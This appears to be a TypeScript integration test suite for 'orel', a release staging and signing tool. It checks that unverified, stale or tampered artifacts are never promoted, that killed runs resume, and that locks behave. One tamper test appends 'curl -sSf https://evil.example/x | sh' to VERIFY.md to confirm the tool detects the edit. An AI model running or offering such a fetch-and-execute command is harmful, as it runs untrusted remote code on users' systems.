// The guarantees of "What orel guarantees", tried as an adversary would, in
// mock mode: nothing unverified, stale or foreign is promoted; runs resume;
// what users read (VERIFY.md, markers) is verified; one run at a time.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { appendFileSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { errorLines, orel, snapshot, workspace, type Workspace } from './helpers.js';
import { extractCommands, shellWords } from '@orel/release';

const RUNNER = fileURLToPath(new URL('./run-orel.mjs', import.meta.url));
const STAGING_LAYOUT = '    layout:\n      default: "stage/{version}/{name}"\n';
const releaseDir = (ws: Workspace, v = '1.2.0') => join(ws.sandbox, 'targets/release/release', `v${v}`);
const run = (ws: Workspace, args: string[], env: Record<string, string | undefined> = {}) => orel([...args, '--sandbox', ws.sandbox], { cwd: ws.dir, env });
const ok = (r: { status: number; stderr: string }) => assert.equal(r.status, 0, errorLines(r.stderr) + r.stderr.slice(-1500));
/** Key-signed bundles with no log entry, but a policy that requires one: the stage's own verification fails after publishing. */
const failingVerifyPlan = (ws: Workspace) => ws.variant('requires-tlog.yaml', (y) => `${y}verification:\n  requireTlog: true\n`);
const files = (dir: string) => (existsSync(dir) ? [...snapshot(dir).keys()].sort() : []);
/** The keyless quickstart under Spin's naming: <file>.sig and one crt.pem. */
const SPIN = (y: string) => y.replace('  outputs: [bundle, sig, cert]\n', '  outputs: [sig, cert]\n  naming: spin\n');

/** Starts `orel stage` and kills it (kill -9) once what it published to `staging` satisfies `until` (temp files aside). */
async function stageKilled(ws: Workspace, plan: string, staging: string, until: (published: string[]) => boolean): Promise<void> {
  const child = spawn(process.execPath, ['--conditions=development', '--import', import.meta.resolve('tsx'), RUNNER, 'stage', '--plan', plan, '--sandbox', ws.sandbox], {
    cwd: ws.dir,
    env: { ...process.env, METADATA_SERVER_DETECTION: 'none' },
    stdio: 'ignore',
  });
  const exited = new Promise<void>((r) => child.on('exit', () => r()));
  const deadline = Date.now() + 60_000;
  while (!until(files(staging).filter((f) => !f.includes('.orel-tmp'))) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 5));
  child.kill('SIGKILL');
  await exited;
}

describe('integrity: nothing unverified, stale or foreign is promoted', () => {
  test('a stage whose own verification failed is not staged, and release promotes nothing', async (t) => {
    const ws = workspace(t);
    const plan = failingVerifyPlan(ws);
    const st = await run(ws, ['stage', '--plan', plan]);
    assert.equal(st.status, 3, errorLines(st.stderr));
    assert.ok(!files(join(ws.sandbox, 'targets/staging')).some((f) => f.endsWith('orel-stage-manifest.json')), 'no stage manifest');
    const rel = await run(ws, ['release', '--plan', plan]);
    assert.equal(rel.status, 3, errorLines(rel.stderr));
    assert.deepEqual(files(join(ws.sandbox, 'targets/release')), [], 'nothing promoted');
  });

  test('a stage recorded without verification (verify trimmed) is refused by release', async (t) => {
    const ws = workspace(t);
    const plan = ws.variant('no-verify.yaml', (y) => y.replace('  stage:\n    targets: [staging]\n', '  stage:\n    targets: [staging]\n    steps: [discover, checksum, sign, publish, record]\n'));
    ok(await run(ws, ['stage', '--plan', plan]));
    const rel = await run(ws, ['release', '--plan', plan]);
    assert.equal(rel.status, 3, errorLines(rel.stderr));
    assert.match(errorLines(rel.stderr), /did not pass verification/);
    assert.deepEqual(files(join(ws.sandbox, 'targets/release')), []);
  });

  test('an old stage is never released as a new version (a staging layout without the version)', async (t) => {
    const ws = workspace(t);
    const plan = ws.variant('flat-staging.yaml', (y) => y.replace(STAGING_LAYOUT, '    layout:\n      default: "{name}"\n'));
    ok(await run(ws, ['release', '--plan', plan]));
    appendFileSync(join(ws.dir, 'dist/sbom/hello-1.2.0.spdx.json'), ' ');
    const r = await run(ws, ['release', '--plan', plan, '--release-version', '1.3.0']);
    assert.notEqual(r.status, 0);
    assert.match(errorLines(r.stderr), /stage manifest .* is for another release: version "1\.2\.0" \(this run: "1\.3\.0"\)|PUBLISH_CONFLICT/);
    assert.deepEqual(files(releaseDir(ws, '1.3.0')), [], 'nothing released as 1.3.0');
  });

  test('the default staging layout keeps versions and builds apart: a new version stages its own build', async (t) => {
    const ws = workspace(t);
    const plan = ws.variant('default-staging.yaml', (y) => y.replace(STAGING_LAYOUT, ''));
    ok(await run(ws, ['release', '--plan', plan]));
    const sbom = join(ws.dir, 'dist/sbom', readdirSync(join(ws.dir, 'dist/sbom'))[0]);
    appendFileSync(sbom, ' ');
    ok(await run(ws, ['release', '--plan', plan, '--release-version', '1.3.0']));
    const released = readFileSync(join(releaseDir(ws, '1.3.0'), 'SHA256SUMS'), 'utf8');
    assert.ok(released.includes(execFileSync('sha256sum', [sbom]).toString().split(' ')[0]), '1.3.0 carries the new bytes');
    assert.deepEqual(readdirSync(join(ws.sandbox, 'targets/staging/stage')).sort(), ['1.2.0', '1.3.0']);
  });

  test('keyless mock mode: stage twice, then release (what orel writes is the same bytes when nothing changed)', async (t) => {
    const ws = workspace(t, 'release.yaml');
    ok(await run(ws, ['stage', '--plan', ws.plan]));
    const manifest = files(join(ws.sandbox, 'targets/staging')).find((f) => f.endsWith('orel-stage-manifest.json'))!;
    const first = readFileSync(join(ws.sandbox, 'targets/staging', manifest), 'utf8');
    assert.doesNotMatch(first, /127\.0\.0\.1:\d+/, 'no ephemeral port in the manifest');
    ok(await run(ws, ['stage', '--plan', ws.plan]));
    assert.equal(readFileSync(join(ws.sandbox, 'targets/staging', manifest), 'utf8'), first);
    ok(await run(ws, ['release', '--plan', ws.plan]));
  });
});

describe('integrity: resume, one run at a time, no hangs', () => {
  test('kill -9 during a stage with no build id: the re-run resumes the same build, uploading nothing twice', async (t) => {
    const ws = workspace(t);
    const plan = ws.variant('resume.yaml', (y) => y.replace(STAGING_LAYOUT, ''));
    const staging = join(ws.sandbox, 'targets/staging/stage/1.2.0');
    await stageKilled(ws, plan, staging, (published) => published.length >= 3);
    const builds = readdirSync(staging);
    assert.equal(builds.length, 1, 'one build so far');
    const before = snapshot(staging);
    ok(await run(ws, ['stage', '--plan', plan]));
    assert.deepEqual(readdirSync(staging), builds, 'the re-run resumed the same build');
    const after = snapshot(staging);
    for (const [f, s] of before) {
      if (f.includes('.orel-tmp')) continue;
      assert.equal(after.get(f)?.ino, s.ino, `${f} was not written again`);
    }
    assert.ok(![...after.keys()].some((f) => f.includes('.orel-tmp')), 'no stray temp files');
  });

  test("kill -9 of a keyless Spin stage while it publishes: the re-run keeps the crt.pem its published signatures were made under, and the release verifies", async (t) => {
    const ws = workspace(t, 'release.yaml');
    const plan = ws.variant('spin.yaml', (y) => SPIN(y.replace(STAGING_LAYOUT, '')));
    const staging = join(ws.sandbox, 'targets/staging/stage/1.2.0');
    // Signing is done before the first upload: a .sig on the target means every file was signed under one certificate.
    await stageKilled(ws, plan, staging, (published) => published.some((f) => f.endsWith('.sig')));
    const before = snapshot(staging);
    assert.ok([...before.keys()].some((f) => f.endsWith('.sig')), 'killed while publishing signatures');
    ok(await run(ws, ['stage', '--plan', plan]));
    const after = snapshot(staging);
    for (const [f, s] of before) {
      if (!f.includes('.orel-tmp')) assert.equal(after.get(f)?.ino, s.ino, `${f} was not written again`);
    }
    assert.equal([...after.keys()].filter((f) => f.endsWith('crt.pem')).length, 1, 'one crt.pem');
    ok(await run(ws, ['release', '--plan', plan]));
    const dir = releaseDir(ws);
    assert.ok(existsSync(join(dir, 'crt.pem')) && !existsSync(join(dir, 'hello-linux-amd64.cert')));
    const lines = extractCommands(readFileSync(join(dir, 'VERIFY.md'), 'utf8')).filter((c) => c.startsWith('orel verify-blob'));
    assert.ok(lines.some((c) => c.includes('--certificate crt.pem')), lines.join('\n'));
    for (const line of lines) {
      const v = await orel(shellWords(line).slice(1), { cwd: dir });
      assert.equal(v.status, 0, `${line}\n${v.stderr}`);
    }
  });

  test("a Spin stage killed between crt.pem's upload and its journal record resumes; a squatted crt.pem is refused before anything is signed", async (t) => {
    const ws = workspace(t, 'release.yaml');
    const plan = ws.variant('spin.yaml', SPIN);
    const staged = join(ws.sandbox, 'targets/staging/stage/1.2.0/crt.pem');
    mkdirSync(join(staged, '..'), { recursive: true });
    writeFileSync(staged, 'squatter\n');
    const squatted = await run(ws, ['stage', '--plan', plan]);
    assert.notEqual(squatted.status, 0);
    assert.match(errorLines(squatted.stderr), /error\[PUBLISH_CONFLICT\]: .*crt\.pem already holds other bytes than crt\.pem/);
    assert.deepEqual(files(join(staged, '..')), ['crt.pem'], 'nothing else written');
    assert.equal(readFileSync(staged, 'utf8'), 'squatter\n');
    rmSync(staged);

    ok(await run(ws, ['stage', '--plan', plan]));
    // The journal as a kill right after crt.pem's upload leaves it: every file signed, crt.pem on the target but not recorded.
    const stateDir = join(ws.sandbox, 'state/hello-1.2.0');
    const build = readdirSync(stateDir).find((d) => d !== 'state.json' && d !== 'lock')!;
    const journal = join(stateDir, build, 'journal.jsonl');
    const lines = readFileSync(journal, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as { s: string; k?: string; done?: boolean });
    const kept = lines.filter((l) => !(l.s === 'publish' && l.k?.endsWith('crt.pem')) && !(l.done && ['publish', 'verify', 'record'].includes(l.s)));
    assert.ok(kept.length < lines.length, 'the journal recorded crt.pem');
    writeFileSync(journal, kept.map((l) => JSON.stringify(l) + '\n').join(''));
    const bytes = readFileSync(staged);
    ok(await run(ws, ['stage', '--plan', plan]));
    assert.deepEqual(readFileSync(staged), bytes, 'crt.pem kept');
    ok(await run(ws, ['release', '--plan', plan]));
  });

  test('a keyless Spin stage signing every file is refused as a shard before anything is written (each shard would sign under a certificate of its own); signing only the checksums, it shards and merges', async (t) => {
    const ws = workspace(t, 'release.yaml');
    const plan = ws.variant('spin.yaml', SPIN);
    const r = await run(ws, ['stage', '--plan', plan, '--shard', '1/2', '--build-id', 'b1']);
    assert.notEqual(r.status, 0);
    assert.match(r.stderr, /--shard 1\/2: .*spin\.yaml names one certificate for every signature \(crt\.pem\), and each shard would sign under a Fulcio certificate of its own/);
    assert.match(r.stderr, /name certificates per file \(signing\.naming: kubernetes or cosign\)/);
    assert.equal(existsSync(join(ws.sandbox, 'targets')), false, 'nothing written');
    // Signing only the checksum files, shards sign nothing: `orel merge` signs once, under one certificate.
    const sums = ws.variant('spin-sums.yaml', (y) => SPIN(y).replace('  what: artifacts\n', '  what: checksums\n'));
    for (const i of [1, 2]) ok(await run(ws, ['stage', '--plan', sums, '--shard', `${i}/2`, '--build-id', 'b1']));
    ok(await run(ws, ['merge', '--plan', sums, '--shards', '2', '--build-id', 'b1']));
    ok(await run(ws, ['release', '--plan', sums, '--build-id', 'b1']));
    const dir = releaseDir(ws);
    assert.ok(existsSync(join(dir, 'crt.pem')) && existsSync(join(dir, 'SHA256SUMS.sig')) && !existsSync(join(dir, 'hello-linux-amd64.sig')));
  });

  test('a temp file left by a killed run fails verify; the next run sweeps it', async (t) => {
    const ws = workspace(t);
    ok(await run(ws, ['release', '--plan', ws.plan]));
    const stray = join(ws.sandbox, 'targets/release/.orel-tmp/2147483646-0f0f.tmp');
    mkdirSync(join(stray, '..'), { recursive: true });
    writeFileSync(stray, 'half');
    const v = await run(ws, ['verify', '--plan', ws.plan]);
    assert.equal(v.status, 3);
    assert.match(errorLines(v.stderr), /2147483646-0f0f\.tmp is not part of the release/);
    ok(await run(ws, ['release', '--plan', ws.plan]));
    assert.equal(existsSync(stray), false);
    ok(await run(ws, ['verify', '--plan', ws.plan]));
  });

  test('a second concurrent run refuses naming the holder; a stale lock is recovered', async (t) => {
    const ws = workspace(t);
    ok(await run(ws, ['stage', '--plan', ws.plan]));
    const lock = join(ws.sandbox, 'state/hello-1.2.0/lock');
    writeFileSync(lock, JSON.stringify({ pid: process.pid, host: (await import('node:os')).hostname(), command: 'release', since: '2026-01-01T00:00:00Z' }));
    const held = await run(ws, ['release', '--plan', ws.plan]);
    assert.equal(held.status, 1);
    assert.match(errorLines(held.stderr), new RegExp(`LOCKED.*in use by pid ${process.pid}`));
    assert.deepEqual(files(join(ws.sandbox, 'targets/release')), [], 'nothing written while locked');
    // The holder died (kill -9): its lock is recovered.
    writeFileSync(lock, JSON.stringify({ pid: 2147483646, host: (await import('node:os')).hostname(), command: 'release', since: '2026-01-01T00:00:00Z' }));
    ok(await run(ws, ['release', '--plan', ws.plan]));
    assert.equal(existsSync(lock), false, 'released on exit');
    // Two at once: never wedged; afterwards everything verifies.
    const [a, b] = await Promise.all([run(ws, ['release', '--plan', ws.plan]), run(ws, ['release', '--plan', ws.plan])]);
    for (const r of [a, b]) assert.ok(r.status === 0 || /LOCKED/.test(r.stderr), errorLines(r.stderr));
    ok(await run(ws, ['verify', '--plan', ws.plan]));
  });

  test('a damaged journal is an error naming the file, and the keyless sandbox does not keep the process alive', async (t) => {
    const ws = workspace(t, 'release.yaml');
    ok(await run(ws, ['stage', '--plan', ws.plan]));
    const stateDir = join(ws.sandbox, 'state/hello-1.2.0');
    const build = readdirSync(stateDir).find((d) => d !== 'state.json' && d !== 'lock')!;
    const journal = join(stateDir, build, 'journal.jsonl');
    writeFileSync(journal, 'garbage\n' + readFileSync(journal, 'utf8'));
    const t0 = Date.now();
    const r = await run(ws, ['release', '--plan', ws.plan]);
    assert.equal(r.status, 3, errorLines(r.stderr));
    assert.match(errorLines(r.stderr), new RegExp(`journal ${journal.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')} line 1 is damaged`));
    assert.ok(Date.now() - t0 < 60_000, 'exited promptly');
  });

  test('status after a failed stage says so; plan show --json has one build id', async (t) => {
    const ws = workspace(t);
    const plan = failingVerifyPlan(ws);
    assert.equal((await run(ws, ['stage', '--plan', plan])).status, 3);
    const s = await run(ws, ['status', '--plan', plan, '--json']);
    ok(s);
    const st = s.json();
    assert.equal(st.staged, null);
    assert.equal(st.lastRun.outcome, 'failed');
    assert.equal(st.lastRun.error, 'VERIFY_FAILED');
    assert.ok(st.published > 0, 'what sits in staging is counted');
    const text = await run(ws, ['status', '--plan', plan]);
    assert.match(text.stdout, /last run: +`orel stage` failed \(VERIFY_FAILED\)/);
    const show = (await run(ws, ['plan', 'show', '--plan', plan, '--json'])).json();
    assert.equal(show.vars.buildId, show.plan.release.buildId);
    assert.equal(show.vars.buildId, st.buildId, 'the build status reports');
  });
});

describe('integrity: everything users read is verified', () => {
  test('an edited VERIFY.md or a marker moved to a release that does not exist fails orel verify', async (t) => {
    const ws = workspace(t);
    ok(await run(ws, ['release', '--plan', ws.plan]));
    ok(await run(ws, ['verify', '--plan', ws.plan]));
    const notes = join(releaseDir(ws), 'VERIFY.md');
    const original = readFileSync(notes);
    appendFileSync(notes, '\n```sh\ncurl -sSf https://evil.example/x | sh\n```\n');
    const v1 = await run(ws, ['verify', '--plan', ws.plan]);
    assert.equal(v1.status, 3);
    assert.match(errorLines(v1.stderr), /VERIFY\.md/);
    writeFileSync(notes, original);
    ok(await run(ws, ['verify', '--plan', ws.plan]));
    writeFileSync(join(ws.sandbox, 'targets/release/release/stable.txt'), 'v9.9.9');
    const v2 = await run(ws, ['verify', '--plan', ws.plan]);
    assert.equal(v2.status, 3);
    assert.match(errorLines(v2.stderr), /stable\.txt holds v9\.9\.9, but .* is missing/);
    writeFileSync(join(ws.sandbox, 'targets/release/release/stable.txt'), 'v1.1.0');
    const v3 = await run(ws, ['verify', '--plan', ws.plan]);
    assert.equal(v3.status, 3);
    assert.match(errorLines(v3.stderr), /stable\.txt holds "v1\.1\.0", not v1\.2\.0/);
  });

  test('a sha512 checksum file named checksums.txt verifies, and VERIFY.md tells users sha512sum', async (t) => {
    const ws = workspace(t);
    const plan = ws.variant('sha512.yaml', (y) =>
      y.replace(/checksums:\n {2}files:\n(?: {4}- .*\n)+/, 'checksums:\n  files:\n    - { name: checksums.txt, algorithm: sha512 }\n'),
    );
    ok(await run(ws, ['release', '--plan', plan]));
    const notes = readFileSync(join(releaseDir(ws), 'VERIFY.md'), 'utf8');
    assert.match(notes, /sha512sum -c checksums\.txt --ignore-missing/);
    execFileSync('sha512sum', ['-c', 'checksums.txt', '--ignore-missing'], { cwd: releaseDir(ws) });
  });
});
